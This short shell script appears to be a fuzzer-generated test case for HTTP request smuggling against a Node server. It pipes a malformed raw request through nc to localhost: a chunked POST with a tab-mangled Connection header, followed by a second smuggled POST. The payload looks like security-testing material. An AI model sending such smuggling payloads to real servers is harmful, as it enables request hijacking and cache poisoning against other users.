#!/bin/sh
# desync/connection-invalid/smuggled-request via byte.replace+stream.duplicate against node
printf 'POST /o HTTP/1.1\r\nHost: \r\nConnection: Transfer-\tg\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nPOST /\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
